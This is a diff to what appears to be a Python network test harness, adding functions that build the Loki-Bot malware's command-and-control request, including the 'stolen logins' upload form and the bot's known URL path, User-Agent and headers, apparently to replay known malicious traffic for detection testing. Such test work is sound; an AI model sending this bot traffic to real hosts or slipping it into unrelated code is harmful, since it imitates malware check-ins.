@@ -5,6 +5,7 @@ import functools
 import operator
 import socket
 import ssl
+import struct
 import urllib.parse
 
 from harness.daemon import run
@@ -36,6 +37,25 @@ def emdivi_field(name, text):
 
 def emdivi(fields, delimiter=";"):
     return delimiter.join(emdivi_field(name, text) for name, text in fields)
+
+
+def lokibot(stolen=None):
+    """The body of a Loki-Bot request as it was published: type 0x28 asks for commands, 0x27 brings stolen logins."""
+    def text(width, word):
+        return struct.pack("<HI", width, len(word) * (width + 1)) + (word.encode("utf-16-le") if width else word.encode())
+
+    body = struct.pack("<HH", 18, 0x28 if stolen is None else 0x27) + text(0, "ckav.ru")
+    body += b"".join(text(1, word) for word in ("admin", "USER-PC", "USER-PC"))
+    body += struct.pack("<IIHHHHHHH", 1280, 720, 1, 1, 0, 6, 1, 1, 43)
+    body += b"" if stolen is None else struct.pack("<HHHHHI", 0, 1, 0, 0, 0, len(stolen))
+    return body + text(1, "8569AAFF63AAA71D80400E25") + (stolen or b"")
+
+
+def lokibot_request(host, body, *headers):
+    return "\r\n".join([
+        "POST /sky/five/fre.php HTTP/1.0", "User-Agent: Mozilla/4.08 (Charon; Inferno)", f"Host: {host}", "Accept: */*",
+        "Content-Type: application/octet-stream", "Content-Encoding: binary", "Content-Key: 8DAA705A",
+        *(headers or [f"Content-Length: {len(body)}"]), "Connection: close", "", ""]).encode() + body
 
 
 def curl(url, to, source, *options, data=None, headers=(), timeout=10):
